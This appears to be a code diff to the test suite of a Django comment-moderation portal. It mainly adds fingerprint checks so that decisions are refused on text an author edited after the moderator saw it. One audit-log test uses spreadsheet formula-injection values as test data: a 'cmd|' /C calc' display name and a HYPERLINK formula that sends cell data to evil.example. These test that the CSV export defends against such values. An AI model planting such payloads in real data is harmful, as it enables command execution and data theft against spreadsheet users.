@@ -3,12 +3,14 @@
 import csv
 import datetime
 import io
+import re
 import threading
 
 import pytest
 from django.core import mail
 from django.core.management import call_command
 from django.db import connection
+from django.test import Client
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 
@@ -84,7 +86,7 @@ class TestQueue:
         veteran = make_user(display_name="Veteran", country="MX", sector="labour", organisation="CTM")
         published = make_comment(statement, author=veteran, approve_by=moderator, body="An earlier published one.")
         refused = make_comment(statement, author=veteran, body="An earlier refused one.")
-        services.comment_reject(comment=refused, moderator=moderator, reason="off_topic")
+        services.comment_reject(comment=refused, seen=refused.fingerprint, moderator=moderator, reason="off_topic")
         first = make_comment(statement, body="First to arrive in the queue.", language="fr")
         reply = make_comment(statement, author=veteran, parent=published, body="Second, a reply in context.")
         client.force_login(moderator)
@@ -111,7 +113,7 @@ class TestQueue:
 
     @pytest.mark.parametrize("extra", [0, 990])
     def test_query_count_does_not_grow_with_the_queue(self, client, statement, moderator, extra, settings):
-        from dialogue.management.commands.seed_demo import CommentSeeder
+        from dialogue.demo import CommentSeeder
 
         CommentSeeder(statement, say=lambda message: None).seed(0, 10 + extra)
         assert Comment.objects.pending().count() == 10 + extra
@@ -132,14 +134,14 @@ class TestQueue:
         make_comment(statement, body="Second in the cached queue.")
         client.force_login(moderator)
         assert "First in the cached queue." in client.get("/en/moderation/").text
-        client.post(f"/en/moderation/comments/{first.tracking_number}/approve/")
+        client.post(f"/en/moderation/comments/{first.tracking_number}/approve/", {"seen": first.fingerprint})
         html = client.get("/en/moderation/").text
         assert "First in the cached queue." not in html and "Second in the cached queue." in html
         assert "1 comment waits, oldest first." in html
 
     def test_the_bulk_form_does_not_list_every_comment_again(self, client, statement, moderator):
         """Comments are chosen with one checkbox each on the page, not a <select> of the whole table."""
-        from dialogue.management.commands.seed_demo import CommentSeeder
+        from dialogue.demo import CommentSeeder
 
         CommentSeeder(statement, say=lambda message: None).seed(0, 60)
         client.force_login(moderator)
@@ -148,13 +150,121 @@ class TestQueue:
         assert '<select name="comments"' not in html
 
 
+ORIGINAL = "We support the border plan as published in February."
+EDITED = "We oppose the border plan: it ignores small exporters entirely."
+
+
+def _seen_on(html: str, attribute_of: str) -> str:
+    """The fingerprint a page sent with one of its decision buttons or checkboxes."""
+    match = re.search(attribute_of, html)
+    assert match, "the page carries no fingerprint of the text it shows"
+    return match.group(1)
+
+
+class TestTheModeratorDecidesOnTheTextTheySaw:
+    """An author may edit a pending comment while a moderator has it open: a decision never applies to unseen text."""
+
+    @pytest.fixture
+    def comment(self, statement, author):
+        return make_comment(statement, author=author, body=ORIGINAL)
+
+    def _author_edits(self, comment, author):
+        editor = Client()
+        editor.force_login(author)
+        response = editor.post(f"/en/dialogue/comments/{comment.tracking_number}/edit/", {"body": EDITED})
+        assert response.status_code == 302
+        assert Comment.objects.get(pk=comment.pk).body == EDITED
+
+    def test_one_click_approve_from_the_queue_is_refused_after_an_edit(self, client, comment, author, moderator):
+        client.force_login(moderator)
+        queue = client.get("/en/moderation/").text
+        assert ORIGINAL in queue
+        seen = _seen_on(queue, rf'name="seen" value="([0-9a-f]{{64}})"[^>]*>Approve {comment.tracking_number}')
+        self._author_edits(comment, author)
+
+        response = client.post(
+            f"/en/moderation/comments/{comment.tracking_number}/approve/", {"seen": seen}, follow=True
+        )
+        assert "The text changed since it was shown to you" in response.text
+        assert EDITED in response.text, "the moderator is shown the new text"
+        assert Comment.objects.get(pk=comment.pk).status == Status.PENDING
+        assert not ModerationEvent.objects.filter(comment=comment, action="approve").exists()
+        client.logout()
+        assert EDITED not in client.get(comment.statement.get_absolute_url()).text
+
+    def test_the_queue_shows_the_new_text_at_once_and_a_decision_on_it_goes_through(
+        self, client, comment, author, moderator
+    ):
+        """The queue is shared by every moderator and cached: an edit refreshes it."""
+        client.force_login(moderator)
+        assert ORIGINAL in client.get("/en/moderation/").text
+        self._author_edits(comment, author)
+        queue = client.get("/en/moderation/").text
+        assert EDITED in queue and ORIGINAL not in queue
+        seen = _seen_on(queue, rf'name="seen" value="([0-9a-f]{{64}})"[^>]*>Approve {comment.tracking_number}')
+        client.post(f"/en/moderation/comments/{comment.tracking_number}/approve/", {"seen": seen})
+        assert Comment.objects.get(pk=comment.pk).status == Status.APPROVED
+
+    def test_a_rejection_from_the_decision_page_is_refused_after_an_edit(self, client, comment, author, moderator):
+        client.force_login(moderator)
+        page = client.get(f"/en/moderation/comments/{comment.tracking_number}/").text
+        seen = _seen_on(page, r'type="hidden" name="seen" value="([0-9a-f]{64})"')
+        self._author_edits(comment, author)
+        response = client.post(
+            f"/en/moderation/comments/{comment.tracking_number}/reject/",
+            {"seen": seen, "reason": "off_topic"},
+            follow=True,
+        )
+        assert "The text changed since it was shown to you" in response.text and EDITED in response.text
+        assert Comment.objects.get(pk=comment.pk).status == Status.PENDING
+
+    def test_a_bulk_decision_skips_the_edited_comment_and_decides_the_others(
+        self, client, statement, comment, author, moderator
+    ):
+        other = make_comment(statement, body="An untouched comment on the same statement.")
+        client.force_login(moderator)
+        queue = client.get("/en/moderation/").text
+        selected = [
+            _seen_on(queue, rf'name="comments" value="({item.pk}:[0-9a-f]{{64}})"') for item in (comment, other)
+        ]
+        self._author_edits(comment, author)
+        response = client.post("/en/moderation/bulk/", {"bulk_action": "approve", "comments": selected}, follow=True)
+        assert "1 comment approved." in response.text
+        assert f"{comment.tracking_number}: The text changed since it was shown to you" in response.text
+        assert Comment.objects.get(pk=comment.pk).status == Status.PENDING
+        assert Comment.objects.get(pk=other.pk).status == Status.APPROVED
+
+    def test_a_decision_without_the_text_seen_is_refused(self, client, comment, moderator):
+        client.force_login(moderator)
+        for data in ({}, {"seen": "not-a-fingerprint"}):
+            response = client.post(f"/en/moderation/comments/{comment.tracking_number}/approve/", data, follow=True)
+            assert "The text changed since it was shown to you" in response.text
+        response = client.post(
+            "/en/moderation/bulk/", {"bulk_action": "approve", "comments": [str(comment.pk)]}, follow=True
+        )
+        assert "The selection was not understood" in response.text
+        assert Comment.objects.get(pk=comment.pk).status == Status.PENDING
+
+    @pytest.mark.parametrize("decide", ["approve", "reject"])
+    def test_the_service_refuses_too(self, comment, author, moderator, decide):
+        """Any caller of the services, not only the pages, meets the rule."""
+        seen = comment.fingerprint
+        services.comment_edit(comment=comment, author=author, body=EDITED)
+        with pytest.raises(services.TextChanged):
+            if decide == "approve":
+                services.comment_approve(comment=comment, seen=seen, moderator=moderator)
+            else:
+                services.comment_reject(comment=comment, seen=seen, moderator=moderator, reason="spam")
+        assert Comment.objects.get(pk=comment.pk).status == Status.PENDING
+
+
 class TestDecisions:
     def test_approve_publishes_and_emails_the_author(
         self, client, statement, pending, moderator, django_capture_on_commit_callbacks
     ):
         client.force_login(moderator)
         with django_capture_on_commit_callbacks(execute=True):
-            client.post(f"/en/moderation/comments/{pending.tracking_number}/approve/")
+            client.post(f"/en/moderation/comments/{pending.tracking_number}/approve/", {"seen": pending.fingerprint})
         pending.refresh_from_db()
         assert pending.status == Status.APPROVED and pending.decided_at
         assert mail.outbox[-1].to == ["author@example.org"]
@@ -168,7 +278,7 @@ class TestDecisions:
         """Any caller (admin, command, bulk) meets the same rule and message as the moderation form."""
         comment = make_comment(statement, approve_by=moderator if decide is services.comment_hide else None)
         with pytest.raises(services.NotAllowed, match=r"Choose the rule this comment breaks\."):
-            decide(comment=comment, moderator=moderator, reason=reason)
+            decide(comment=comment, seen=comment.fingerprint, moderator=moderator, reason=reason)
         assert Comment.objects.get(pk=comment.pk).status == comment.status
 
     def test_reject_needs_a_reason_and_tells_the_author(
@@ -176,12 +286,19 @@ class TestDecisions:
     ):
         client.force_login(moderator)
         url = f"/en/moderation/comments/{pending.tracking_number}/reject/"
-        response = client.post(url, {"reason": "", "note": ""}, follow=True)
+        response = client.post(url, {"seen": pending.fingerprint, "reason": "", "note": ""}, follow=True)
         assert "Choose the rule this comment breaks." in response.text
         pending.refresh_from_db()
         assert pending.status == Status.PENDING
         with django_capture_on_commit_callbacks(execute=True):
-            client.post(url, {"reason": "personal_information", "note": "Please remove the phone number."})
+            client.post(
+                url,
+                {
+                    "seen": pending.fingerprint,
+                    "reason": "personal_information",
+                    "note": "Please remove the phone number.",
+                },
+            )
         pending.refresh_from_db()
         assert (pending.status, pending.decision_reason) == (Status.REJECTED, "personal_information")
         email = mail.outbox[-1]
@@ -195,12 +312,15 @@ class TestDecisions:
         )
 
     def test_hide_keeps_a_placeholder_and_restore_brings_it_back(self, client, statement, pending, moderator):
-        services.comment_approve(comment=pending, moderator=moderator)
+        services.comment_approve(comment=pending, seen=pending.fingerprint, moderator=moderator)
         client.force_login(moderator)
-        client.post(f"/en/moderation/comments/{pending.tracking_number}/hide/", {"reason": "abusive"})
+        client.post(
+            f"/en/moderation/comments/{pending.tracking_number}/hide/",
+            {"seen": pending.fingerprint, "reason": "abusive"},
+        )
         pending.refresh_from_db()
         assert pending.status == Status.HIDDEN
-        client.post(f"/en/moderation/comments/{pending.tracking_number}/restore/")
+        client.post(f"/en/moderation/comments/{pending.tracking_number}/restore/", {"seen": pending.fingerprint})
         pending.refresh_from_db()
         assert pending.status == Status.APPROVED
 
@@ -219,19 +339,23 @@ class TestDecisions:
         if setup == "withdrawn":
             services.comment_withdraw(comment=pending, author=author)
         elif setup == "approved":
-            services.comment_approve(comment=pending, moderator=moderator)
+            services.comment_approve(comment=pending, seen=pending.fingerprint, moderator=moderator)
         elif setup == "rejected":
-            services.comment_reject(comment=pending, moderator=moderator, reason="spam")
+            services.comment_reject(comment=pending, seen=pending.fingerprint, moderator=moderator, reason="spam")
         before = (Comment.objects.get(pk=pending.pk).status, ModerationEvent.objects.count())
         with pytest.raises(services.DialogueError):
-            action(comment=pending, moderator=moderator, **kwargs)
+            action(comment=pending, seen=pending.fingerprint, moderator=moderator, **kwargs)
         assert (Comment.objects.get(pk=pending.pk).status, ModerationEvent.objects.count()) == before
 
     def test_second_decision_is_told_who_decided(self, client, pending, moderator):
-        services.comment_approve(comment=pending, moderator=make_moderator(display_name="Xavier"))
+        services.comment_approve(
+            comment=pending, seen=pending.fingerprint, moderator=make_moderator(display_name="Xavier")
+        )
         client.force_login(moderator)
         response = client.post(
-            f"/en/moderation/comments/{pending.tracking_number}/reject/", {"reason": "spam"}, follow=True
+            f"/en/moderation/comments/{pending.tracking_number}/reject/",
+            {"seen": pending.fingerprint, "reason": "spam"},
+            follow=True,
         )
         assert "This comment was already decided (Published) by Xavier." in response.text
         pending.refresh_from_db()
@@ -242,13 +366,13 @@ class TestDecisions:
         client.force_login(moderator)
         response = client.post(
             "/en/moderation/bulk/",
-            {"bulk_action": "approve", "comments": [c.pk for c in comments[:2]]},
+            {"bulk_action": "approve", "comments": [_selected(c) for c in comments[:2]]},
             follow=True,
         )
         assert "2 comments approved." in response.text
         response = client.post(
             "/en/moderation/bulk/",
-            {"bulk_action": "reject", "comments": [c.pk for c in comments], "reason": "duplicate_campaign"},
+            {"bulk_action": "reject", "comments": [_selected(c) for c in comments], "reason": "duplicate_campaign"},
             follow=True,
         )
         assert "2 comments rejected." in response.text
@@ -259,7 +383,9 @@ class TestDecisions:
     def test_bulk_reject_without_a_reason_changes_nothing(self, client, statement, moderator):
         comment = make_comment(statement)
         client.force_login(moderator)
-        response = client.post("/en/moderation/bulk/", {"bulk_action": "reject", "comments": [comment.pk]}, follow=True)
+        response = client.post(
+            "/en/moderation/bulk/", {"bulk_action": "reject", "comments": [_selected(comment)]}, follow=True
+        )
         assert "Choose the rule this comment breaks." in response.text
         assert Comment.objects.get(pk=comment.pk).status == Status.PENDING
 
@@ -271,14 +397,18 @@ class TestDecisions:
         """After a decision the moderator goes back to `next` only if it is a page of the portal."""
         comment = make_comment(statement)
         client.force_login(moderator)
-        response = client.post(f"/en/moderation/comments/{comment.tracking_number}/approve/", {"next": target})
+        response = client.post(
+            f"/en/moderation/comments/{comment.tracking_number}/approve/", {"seen": comment.fingerprint, "next": target}
+        )
         assert response.status_code == 302 and response["Location"] == "/en/moderation/"
 
     @pytest.mark.parametrize("target", ["/en/moderation/?status=flagged&page=2", "http://testserver/en/moderation/"])
     def test_a_destination_on_the_site_is_kept(self, client, statement, moderator, target):
         comment = make_comment(statement)
         client.force_login(moderator)
-        response = client.post(f"/en/moderation/comments/{comment.tracking_number}/approve/", {"next": target})
+        response = client.post(
+            f"/en/moderation/comments/{comment.tracking_number}/approve/", {"seen": comment.fingerprint, "next": target}
+        )
         assert response["Location"] == target
 
     def test_a_failing_email_never_undoes_the_decision(
@@ -287,7 +417,9 @@ class TestDecisions:
         settings.EMAIL_BACKEND = "tests.email_backends.FailingEmailBackend"
         client.force_login(moderator)
         with django_capture_on_commit_callbacks(execute=True):
-            response = client.post(f"/en/moderation/comments/{pending.tracking_number}/approve/")
+            response = client.post(
+                f"/en/moderation/comments/{pending.tracking_number}/approve/", {"seen": pending.fingerprint}
+            )
         assert response.status_code == 302
         pending.refresh_from_db()
         assert pending.status == Status.APPROVED
@@ -344,7 +476,10 @@ class TestFlags:
         for _ in range(2):
             services.comment_flag(comment=comment, flagger=make_user(), reason="off_topic")
         client.force_login(moderator)
-        client.post(f"/en/moderation/comments/{comment.tracking_number}/reports/resolve/", {"resolution": resolution})
+        client.post(
+            f"/en/moderation/comments/{comment.tracking_number}/reports/resolve/",
+            {"seen": comment.fingerprint, "resolution": resolution},
+        )
         comment.refresh_from_db()
         assert (comment.status, comment.flagged) == (status, False)
         expected = Flag.Resolution.DISMISSED if resolution == "dismiss" else Flag.Resolution.UPHELD
@@ -403,8 +538,10 @@ class TestAuditLog:
         other = make_moderator(display_name="Other moderator")
         first = make_comment(statement, body="Decided by Moe, approved.")
         second = make_comment(statement, body="Decided by the other moderator.")
-        services.comment_approve(comment=first, moderator=moderator)
-        services.comment_reject(comment=second, moderator=other, reason="spam", note="Advertising.")
+        services.comment_approve(comment=first, seen=first.fingerprint, moderator=moderator)
+        services.comment_reject(
+            comment=second, seen=second.fingerprint, moderator=other, reason="spam", note="Advertising."
+        )
         client.force_login(moderator)
         html = client.get(f"/en/moderation/log/?moderator={other.pk}").text
         assert second.tracking_number in html and first.tracking_number not in html
@@ -420,7 +557,7 @@ class TestAuditLog:
         hostile = make_moderator(display_name="@SUM(1+1)*cmd|' /C calc'!A0")
         comment = make_comment(statement, body="A comment that a hostile-looking moderator rejects.")
         note = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
-        services.comment_reject(comment=comment, moderator=hostile, reason="spam", note=note)
+        services.comment_reject(comment=comment, seen=comment.fingerprint, moderator=hostile, reason="spam", note=note)
         client.force_login(hostile)
         text = b"".join(client.get("/en/moderation/log.csv?action=reject").streaming_content).decode()
         row = next(csv.DictReader(io.StringIO(text)))
@@ -441,7 +578,7 @@ def test_moderation_digest_emails_moderators_in_their_language(statement, pendin
 def test_transparency_report_counts_decisions_without_personal_data(client, statement, moderator):
     for reason in ("spam", "spam", "abusive"):
         comment = make_comment(statement, body=f"To be rejected for {reason} {timezone.now().timestamp()}")
-        services.comment_reject(comment=comment, moderator=moderator, reason=reason)
+        services.comment_reject(comment=comment, seen=comment.fingerprint, moderator=moderator, reason=reason)
     make_comment(statement, approve_by=moderator)
     html = client.get("/en/dialogue/moderation-report/").text
     assert '<th scope="row">4. Spam or commercial</th><td>2</td>' in html
@@ -484,3 +621,8 @@ def test_two_moderators_deciding_at_once_one_wins_and_the_other_is_told():
     decisions = ModerationEvent.objects.filter(comment=comment).exclude(action="submit")
     assert decisions.count() == 1
     assert comment.status == decisions.get().to_status
+
+
+def _selected(comment):
+    """A queue checkbox's value: the comment and the fingerprint of the text the queue showed."""
+    return f"{comment.pk}:{comment.fingerprint}"
